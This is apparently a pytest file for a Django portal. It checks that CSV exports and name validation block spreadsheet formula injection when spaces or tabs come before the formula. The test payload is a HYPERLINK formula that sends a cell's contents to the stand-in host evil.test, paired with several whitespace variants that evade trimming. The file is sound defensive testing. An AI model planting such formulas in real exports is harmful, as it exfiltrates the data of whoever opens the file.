"""A cell that starts with spaces and then a formula is a formula to a spreadsheet that trims
the spaces first (LibreOffice's text import with "Trim spaces", Google Sheets on import): it
gets the leading quote too (attack16; left over by attack15)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from portal.audit.events import record
from portal.csv_cells import neutralise
from portal.plain_text import name_problem
from provisioning.bulk.export import write_rows

FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
SPACES = [" ", "  ", "\u00a0", "\u3000", "\u2003", " \t"]


def trimmed_formulas(text: str) -> list[str]:
    """The cells that are formulas once a reader trims their leading whitespace, cut at commas
    (the file's own separator) and, inside those, at semicolons (attack15's spreadsheets)."""
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    cells += [part for cell in cells for part in cell.split(";")[1:]]
    return [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("space", SPACES)
def test_spaces_before_a_formula_get_the_leading_quote(space):
    assert neutralise(space + FORMULA) == "'" + space + FORMULA


@pytest.mark.parametrize("space", SPACES)
def test_a_name_of_spaces_before_a_formula_is_refused(space):
    assert name_problem(space + "=1+1")  # the tab is refused as a control character first


@pytest.mark.parametrize("cell", [" Ada", "\u00a0Lovelace", "a =b", "  "])
def test_spaces_before_other_text_are_left(cell):
    assert neutralise(cell) == cell
    assert name_problem(cell) == ""


def test_the_audit_export_writes_no_formula_after_spaces(client, alpha, msp_admin):
    label = " " + FORMULA
    record("identity.update", actor=msp_admin, tenant=alpha.tenant, target=("identity", 1, label))
    client.force_login(msp_admin)

    response = client.get(reverse("audit_export"), {"tenant": "alpha"})

    text = b"".join(response.streaming_content).decode("utf-8")
    assert FORMULA.replace('"', '""') in text
    assert trimmed_formulas(text) == []


def test_a_bulk_csv_writes_no_formula_after_spaces():
    text = write_rows([["display_name", "line"], ["\u00a0" + FORMULA, "3"]])

    assert trimmed_formulas(text) == []
